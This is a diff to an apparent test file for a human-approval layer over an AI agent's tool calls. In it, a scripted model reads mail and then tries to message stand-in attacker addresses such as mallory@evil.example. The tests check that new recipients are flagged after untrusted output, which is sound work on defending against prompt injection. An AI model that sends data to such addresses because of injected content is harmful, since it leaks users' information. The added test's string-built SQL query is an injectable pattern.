@@ -2,7 +2,8 @@ import { beforeEach, describe, expect, test } from "vitest";
 import { script } from "../fakes/scripted-model.ts";
 import { APPROVE, callOf, decide, openOf, REJECT, viewOf, type Call } from "../shared/people.ts";
 import { cancel, untilState } from "../shared/run-object.ts";
-import { govern, postChat, runIdOf, send } from "../shared/worker.ts";
+import { tenantRows } from "../shared/tenant-notices.ts";
+import { govern, postChat, runIdOf, send, type Caller } from "../shared/worker.ts";
 import { done, FLOW_TOOLS, notes, openOffice, strangers } from "../workers/lab-flow.ts";
 
 const POLICY = { allowedTools: FLOW_TOOLS };
@@ -10,6 +11,8 @@ const OPEN = callOf("lab__open", { what: "mail" }, "open");
 const tell = (to: readonly string[], more: object = {}): Call =>
   callOf("lab__tell", { to, text: "hello", ...more }, "tell");
 const MALLORY = tell(["mallory@evil.example"]);
+const EVE = tell(["eve@evil.example"]);
+const TRUDY = tell(["trudy@evil.example"]);
 const ASKS = { status: "waiting" } as const;
 const ENDS = { status: "completed" } as const;
 
@@ -20,10 +23,14 @@ beforeEach(async () => {
 });
 
 /** Starts a run of victor, who wrote some words; the model makes calls step by step. */
-async function start(steps: readonly (readonly Call[])[], words: readonly string[] = []) {
+async function start(
+  steps: readonly (readonly Call[])[],
+  words: readonly string[] = [],
+  caller: Caller = "victor",
+) {
   const said = [...words, script(...steps.map((calls) => ({ calls })), {})];
   const messages = said.map((content) => ({ role: "user", content }));
-  return runIdOf(await postChat({ messages }, "victor"));
+  return runIdOf(await postChat({ messages }, caller));
 }
 
 /** Waits until a run asks; answers the id of its one open approval. */
@@ -50,7 +57,7 @@ describe("without rules of its own, after untrusted output", () => {
   });
 
   test("the person sees after what it was made and what is new, and is asked once", async () => {
-    const steps = [[OPEN], [tell(["bob@acme.example", "mallory@evil.example"])], [OPEN], [MALLORY]];
+    const steps = [[OPEN], [tell(["bob@acme.example", "eve@evil.example"])], [OPEN], [EVE]];
     const runId = await start(steps, ["Please tell bob@acme.example the news."]);
     const first = await asked(runId);
     const { packet, lines, requirements } = await viewOf(first, "victor");
@@ -62,7 +69,7 @@ describe("without rules of its own, after untrusted output", () => {
     expect(lines.map(({ label, text }) => `${label}: ${text}`)).toEqual(
       expect.arrayContaining([
         "After reading: the output of lab__open",
-        "New here: To › 2: mallory@evil.example",
+        "New here: To › 2: eve@evil.example",
       ]),
     );
     await decide(first, "victor", APPROVE);
@@ -76,6 +83,31 @@ describe("without rules of its own, after untrusted output", () => {
     await decide(second, "victor", REJECT);
     await untilState(runId, ENDS, "victor");
     expect(done).toHaveLength(1);
+  });
+
+  test("what a person used in an earlier conversation is not new; what a stranger had noted is", async () => {
+    const noted = "noted@evil.example";
+    const jot = callOf("lab__jot", { text: noted }, "jot");
+    const steps = [[OPEN], [jot], [tell(["trudy@evil.example", noted])]];
+    const newIn = async (caller: Caller = "victor") => {
+      const [open = ""] = openOf(await untilState(await start(steps, [], caller), ASKS, caller));
+      const { newHere } = (await viewOf(open, caller)).packet;
+      await decide(open, caller, REJECT);
+      return newHere;
+    };
+    expect(await newIn()).toEqual(["/to/0", "/to/1"]);
+    const approved = await asked(await start([[OPEN], [TRUDY]]));
+    await decide(approved, "victor", APPROVE);
+    await expect.poll(() => newIn(), { timeout: 10_000 }).toEqual(["/to/1"]);
+    // Another person of the tenant never used it.
+    expect(await newIn("oscar")).toEqual(["/to/0", "/to/1"]);
+    await untilState(await start([[TRUDY]], [], "oscar"), ENDS, "oscar");
+    const hashesOf = async (who: string) =>
+      tenantRows("bendable", `SELECT hash FROM used_names WHERE person = '${who}'`);
+    await expect.poll(() => hashesOf("user:oscar")).toHaveLength(1);
+    const [theirs] = await hashesOf("user:oscar");
+    expect(await hashesOf("user:victor")).not.toContainEqual(theirs);
+    expect(JSON.stringify(theirs)).not.toMatch(/evil|trudy/);
   });
 
   test("a crash, a new turn and a longer wait change nothing", async () => {
